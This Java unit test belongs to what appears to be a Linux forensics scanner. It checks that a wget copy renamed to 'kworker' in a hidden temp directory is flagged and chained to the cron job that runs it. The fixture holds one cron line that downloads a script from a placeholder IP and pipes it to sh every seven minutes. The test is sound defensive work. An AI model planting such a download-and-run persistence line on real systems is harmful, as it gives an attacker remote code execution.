package dev.ferret.detect.files;

import dev.ferret.collect.CollectOptions;
import dev.ferret.collect.linux.persistence.Fixture;
import dev.ferret.data.DetectionData;
import dev.ferret.data.rules.Golden;
import dev.ferret.model.Coverage;
import dev.ferret.model.Finding;
import dev.ferret.model.Severity;
import dev.ferret.scan.Area;
import dev.ferret.scan.Catalog;
import dev.ferret.scan.ScanEngine;
import dev.ferret.scan.ScanRequest;
import dev.ferret.scan.ScanResult;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Clock;
import java.time.Duration;
import java.util.EnumSet;
import java.util.HexFormat;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** wget copied to a kernel-thread name in a hidden temp dir, run by cron: found by content, cron chained to it. */
class RenamedDownloaderTest {
    private static final String WGET = "\u007fELF pretend wget build 1.21\n";

    @TempDir
    Path root;

    @Test
    @Golden("file.renamed-downloader")
    void aRenamedWgetIsFoundByItsPackageChecksumAndTheCronLineRunningItChains() throws Exception {
        String md5 = HexFormat.of().formatHex(MessageDigest.getInstance("MD5")
                .digest(WGET.getBytes(StandardCharsets.UTF_8)));
        Fixture tree = new Fixture(root)
                .file("/var/lib/dpkg/info/wget.md5sums", md5 + "  usr/bin/wget\n")
                .file("/usr/bin/wget", WGET)
                .file("/tmp/.X11-cache/kworker", WGET)
                .file("/tmp/chroot/usr/bin/wget", WGET) // a copied tree keeps the name: not a renamed tool
                .file("/etc/cron.d/kworker", "*/7 * * * * root /tmp/.X11-cache/kworker -q -O- "
                        + "http://203.0.113.44/k.sh > /tmp/.X11-cache/k.sh; sh /tmp/.X11-cache/k.sh\n");
        tree.at("/tmp/.X11-cache/kworker").toFile().setExecutable(true);
        tree.at("/usr/bin/wget").toFile().setExecutable(true);
        tree.at("/tmp/chroot/usr/bin/wget").toFile().setExecutable(true);
        DetectionData data = DetectionData.builtIn();
        ScanResult result = new ScanEngine(Catalog.linuxCollectors(data), Catalog.primaryDetectors(),
                Catalog.pivotDetectors(), Clock.systemUTC()).run(new ScanRequest(
                EnumSet.of(Area.FILES, Area.PERSISTENCE), tree.root(), false,
                new CollectOptions(Duration.ofMillis(100), false), data), new Coverage());
        List<Finding> renamed = result.findings().stream()
                .filter(f -> f.ruleId().equals(RenamedDownloaderDetector.ID)).toList();
        assertEquals(1, renamed.size(), result.findings().toString());
        Finding copy = renamed.get(0);
        assertEquals("/tmp/.X11-cache/kworker", copy.file().path(), "the copy, never the packaged tool");
        assertTrue(copy.severity().compareTo(Severity.HIGH) >= 0, copy.toString());
        Finding cron = result.findings().stream().filter(f -> f.persistence() != null
                && f.persistence().path().equals("/etc/cron.d/kworker")
                && f.ruleId().equals("linux.persistence.runs-flagged-target")).findFirst()
                .orElseThrow(() -> new AssertionError(result.findings().toString()));
        assertTrue(cron.severity().compareTo(Severity.HIGH) >= 0, cron.toString());
        assertEquals(copy.chain(), cron.chain());
    }
}
